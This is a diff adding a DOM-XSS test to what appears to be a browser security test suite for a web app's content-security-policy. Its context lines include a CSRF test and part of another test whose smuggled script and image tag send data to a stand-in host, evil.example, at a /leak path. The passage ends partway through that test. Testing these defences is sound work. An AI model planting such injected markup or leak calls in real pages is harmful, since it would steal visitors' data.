@@ -98,6 +98,20 @@ test('a page on another port of this host sends what changes something (CSRF)', 
   assert.equal(await attack(await setTheScene(t)), 0)
 })
 
+test('text becomes markup by a careless line of our own page (DOM XSS)', async (t) => {
+  const attack = async ({ page, server }: Scene) => {
+    await page.goto(server.url)
+    return page.evaluate(`(() => {
+      try { document.body.insertAdjacentHTML('beforeend', '<i id="made"></i>') } catch {}
+      return document.getElementById('made') !== null
+    })()`)
+  }
+  const dropped = 'content-security-policy'
+  const isWeak = await setTheScene(t, ({ droppedHeaders }) => droppedHeaders.push(dropped))
+  assert.equal(await attack(isWeak), true)
+  assert.equal(await attack(await setTheScene(t)), false)
+})
+
 test('what was smuggled into our page runs, and carries something away', async (t) => {
   const smuggled = (port: number) => `<script>window.isTaken = true</script>
     <img src="http://evil.example:${port}/leak?by=image">
